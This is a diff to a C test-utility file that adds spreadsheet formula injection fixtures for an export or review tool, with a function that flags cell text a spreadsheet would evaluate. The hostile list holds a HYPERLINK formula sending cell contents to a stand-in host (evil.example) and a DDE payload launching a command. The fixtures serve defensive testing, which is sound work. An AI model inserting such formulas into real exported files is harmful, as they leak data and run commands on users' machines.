@@ -1,4 +1,5 @@
 #include <stdarg.h>
+#include <string.h>
 #include <glib/gstdio.h>
 
 #include "cf-test-util.h"
@@ -196,4 +197,75 @@ cf_test_time_limit (double seconds)
   double f = factor ? g_ascii_strtod (factor, NULL) : 1.0;
 
   return seconds * (f >= 1.0 ? f : 1.0) * SANITIZER_SLOWDOWN;
+}
+
+/* ---- spreadsheet injection ---- */
+
+const char *const cf_test_hostile_texts[] = {
+  "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
+  "=cmd|' /C calc'!A0",
+  "+1+1",
+  "-2+3",
+  "@SUM(A1:A2)",
+  "\t=1+1",
+  "\r=1+1",
+  NULL,
+};
+
+const char *const cf_test_kept_texts[] = {
+  "-5", "+7", "-1,234.5", "-12%", "(5)",
+  "-", /* the dash reports print for zero: no spreadsheet runs it */
+  NULL,
+};
+
+gboolean
+cf_test_is_live_text (const char *text)
+{
+  if (text == NULL || text[0] == '\0' || strchr ("=+-@\t\r", text[0]) == NULL)
+    return FALSE;
+  if (g_strv_contains (cf_test_kept_texts, text))
+    return FALSE;
+  /* The numbers as the exports print their values (-1234.5, -12). */
+  return !g_regex_match_simple ("^-[0-9]+(\\.[0-9]+)?$", text, 0, 0);
+}
+
+CfDocument *
+cf_test_hostile_document (CfReview **review)
+{
+  CfDocument *doc = cf_document_new ("@hostile.txt", CF_DOCUMENT_KIND_TEXT);
+  g_autoptr (CfTable) table = cf_table_new ();
+  guint n_hostile = g_strv_length ((char **) cf_test_hostile_texts);
+  guint n_kept = g_strv_length ((char **) cf_test_kept_texts);
+  CfFinding *finding;
+
+  cf_document_set_sha256 (doc, "0123hostile");
+  cf_document_set_form (doc, "gip-2021");
+  cf_table_set_id (table, "requests");
+  /* Column 0: the hostile texts, column 1: the kept ones. */
+  for (guint row = 0; row < MAX (n_hostile, n_kept); row++)
+    {
+      const char *label = row < n_hostile ? cf_test_hostile_texts[row] : "x";
+      const char *number = row < n_kept ? cf_test_kept_texts[row] : "1";
+      CfCell *text_cell = cf_table_add_cell (table, row, 0, 1, 1, label, -1, 0);
+      CfCell *number_cell = cf_table_add_cell (table, row, 1, 1, 1, number, -1, 0);
+
+      if (row < 2)
+        {
+          cf_cell_set_keys (text_cell, row == 0 ? "new" : "carried_over", "natural_person");
+          cf_cell_set_keys (number_cell, row == 0 ? "new" : "carried_over", "total");
+        }
+    }
+  cf_table_finish (table);
+  cf_document_add_table (doc, table);
+
+  finding = cf_finding_new (CF_SEVERITY_ERROR, "=rule()", "requests", "=1+2 does not add up");
+  cf_finding_add_cell (finding, "requests", 0, 1, "new", "total");
+  cf_finding_set_values (finding, TRUE, -5, TRUE, 7);
+  cf_document_take_finding (doc, finding);
+  if (review != NULL)
+    {
+      *review = cf_review_new (NULL, cf_document_get_sha256 (doc), NULL);
+      g_assert_true (cf_review_accept (*review, finding, "@note =1+1", NULL));
+    }
+  return doc;
 }
